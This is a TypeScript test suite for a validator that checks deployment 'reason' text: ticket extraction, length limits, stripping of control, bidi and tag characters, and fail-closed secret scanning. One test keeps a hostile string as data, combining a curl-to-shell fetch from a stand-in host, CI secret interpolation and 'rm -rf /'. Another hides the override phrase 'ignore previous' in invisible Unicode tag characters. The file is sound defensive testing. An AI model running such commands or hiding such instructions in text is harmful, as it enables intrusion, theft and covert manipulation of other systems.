import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  checkReason,
  reasonRules,
  sanitizeReason,
  DEFAULT_REASON_RULES,
  type SecretScanner,
} from '../src/reason.ts';

// AWS's documented example key id, assembled at run time so no key-shaped literal is committed.
const EXAMPLE_KEY = ['AKIA', 'IOSFODNN7', 'EXAMPLE'].join('');
// A small but real scanner: two credential shapes and an e-mail address.
const scanner: SecretScanner = (text) => {
  const found: { ruleId: string }[] = [];
  if (/\b(?:AKIA|ASIA)[A-Z0-9]{16}\b/.test(text)) found.push({ ruleId: 'aws-access-key-id' });
  if (/[\w.+-]+@[\w-]+\.[\w.]+/.test(text)) found.push({ ruleId: 'email' });
  return found;
};

const GOOD = 'Roll out the payment fix for INC0042 to prod';

test('a good reason passes and its ticket is extracted', () => {
  const r = checkReason(GOOD, DEFAULT_REASON_RULES, scanner);
  assert.deepEqual(r.problems, []);
  assert.equal(r.ok, true);
  assert.deepEqual(r.tickets, ['INC0042']);
});

test('JIRA-style keys count as tickets; lowercase or bare numbers do not', () => {
  assert.deepEqual(
    checkReason('Deploy hotfix for checkout, see PAY-1234 and OPS2-7', DEFAULT_REASON_RULES, scanner).tickets,
    ['PAY-1234', 'OPS2-7'],
  );
  const r = checkReason('Deploy hotfix for checkout, see pay-1234 and #77', DEFAULT_REASON_RULES, scanner);
  assert.equal(r.ok, false);
  assert.match(r.problems.join('\n'), /cites no ticket or incident/);
});

for (const [name, raw] of [
  ['empty', ''],
  ['whitespace', '   \t \n  '],
  ['undefined', undefined],
  ['only control characters', '\u0000\u0007\u001b'],
] as const) {
  test(`an ${name} reason is refused with one clear problem`, () => {
    const r = checkReason(raw, DEFAULT_REASON_RULES, scanner);
    assert.equal(r.ok, false);
    assert.equal(r.problems.length, 1);
    assert.match(r.problems[0]!, /reason is empty/);
  });
}

test('too short and too long are refused with the counts', () => {
  const short = checkReason('fix INC1', DEFAULT_REASON_RULES, scanner);
  assert.equal(short.ok, false);
  assert.match(short.problems.join(), /8 characters; at least 20/);
  const long = checkReason(`INC0042 ${'x'.repeat(1200)}`, DEFAULT_REASON_RULES, scanner);
  assert.equal(long.ok, false);
  assert.match(long.problems.join(), /at most 1000/);
});

test('shell and expression metacharacters are kept verbatim as data', () => {
  const raw = 'INC0042 rollback $(curl evil.sh | sh) `id` ${{ secrets.TOKEN }}; rm -rf /';
  const r = checkReason(raw, DEFAULT_REASON_RULES, scanner);
  assert.equal(r.ok, true);
  assert.equal(r.reason, raw);
});

test('newlines and tabs become spaces; other control and bidi characters are removed', () => {
  assert.equal(sanitizeReason('INC0042 line one\nline two\r\n\tthree'), 'INC0042 line one line two three');
  assert.equal(sanitizeReason('a\u0000b\u001bc\u007fd\u0085e'), 'abcd e');
  // Trojan Source: a right-to-left override would make the log display something else.
  assert.equal(sanitizeReason('INC1 \u202eevil\u202c ok\u200b'), 'INC1 evil ok');
});

test('a secret in the reason is refused, withheld from the record, and never echoed', () => {
  const raw = `Rotate creds for INC0042, old key was ${EXAMPLE_KEY} contact ops@example.com`;
  const r = checkReason(raw, DEFAULT_REASON_RULES, scanner);
  assert.equal(r.ok, false);
  assert.match(r.problems.join(), /aws-access-key-id, email/);
  const everything = JSON.stringify(r);
  assert.ok(!everything.includes(EXAMPLE_KEY), 'the key must not appear anywhere in the result');
  assert.ok(!everything.includes('ops@example.com'));
  assert.match(r.reason, /^\[withheld: matched aws-access-key-id, email\]$/);
});

test('without a scanner, or when the scanner throws, the reason fails closed', () => {
  assert.match(checkReason(GOOD, DEFAULT_REASON_RULES, undefined).problems.join(), /no secret\/PII scanner/);
  const broken: SecretScanner = () => {
    throw new TypeError(`boom ${EXAMPLE_KEY}`);
  };
  const r = checkReason(GOOD, DEFAULT_REASON_RULES, broken);
  assert.equal(r.ok, false);
  assert.match(r.problems.join(), /scan failed \(TypeError\)/);
  assert.ok(
    !JSON.stringify(r).includes(EXAMPLE_KEY),
    'the error message (which could quote input) is not copied',
  );
});

test('a custom ticket pattern replaces the default and is named in the problem', () => {
  const rules = reasonRules({ ticketPattern: 'CHG\\d{7}', minLength: 10 });
  assert.equal(checkReason('deploy for CHG0001234', rules, scanner).ok, true);
  const r = checkReason('deploy for INC0042 now', rules, scanner);
  assert.match(r.problems.join(), /a match for \/CHG\\d\{7\}\//);
});

test('an invalid ticket pattern is a clear error', () => {
  assert.throws(
    () => reasonRules({ ticketPattern: '([A-Z' }),
    /reason.ticketPattern is not a valid regular expression/,
  );
});

test('the default ticket pattern does not take algorithm or encoding names for tickets', async () => {
  const { parseAccessPolicy, BUILT_IN_POLICY_YAML } = await import('../src/policy.ts');
  const builtIn = reasonRules(parseAccessPolicy('built-in', BUILT_IN_POLICY_YAML, { owner: 'acme' }).reason);
  for (const rules of [DEFAULT_REASON_RULES, builtIn]) {
    for (const text of [
      'Rotate the UTF-8 decoder and the SHA-256 digests, AES-128 to AES-256, ISO-8601 dates',
      'Per RFC-7519 and TLS-13 with MD-5 removed, see CVE-2024 notes',
      'A1-2 and X-1 are not ticket keys either',
    ]) {
      const check = checkReason(text, rules, scanner);
      assert.deepEqual(check.tickets, [], text);
      assert.match(check.problems.join(' '), /cites no ticket/);
    }
    const real = checkReason('Deploy the SHAPE-12 fix with CHG-1234 and PAY-77 for INC0042', rules, scanner);
    assert.deepEqual(real.tickets, ['SHAPE-12', 'CHG-1234', 'PAY-77', 'INC0042']);
  }
});

test('soft hyphens and Unicode tag characters are stripped from the reason', () => {
  const tags = [...'ignore previous'].map((c) => String.fromCodePoint(0xe0000 + c.codePointAt(0)!)).join('');
  const raw = `CHG-1234 de\u00adploy${tags} the fix\u{e007f} now`;
  const clean = sanitizeReason(raw);
  assert.equal(clean, 'CHG-1234 deploy the fix now');
  assert.ok(![...clean].some((c) => c.codePointAt(0)! >= 0xe0000 || c === '\u00ad'));
});
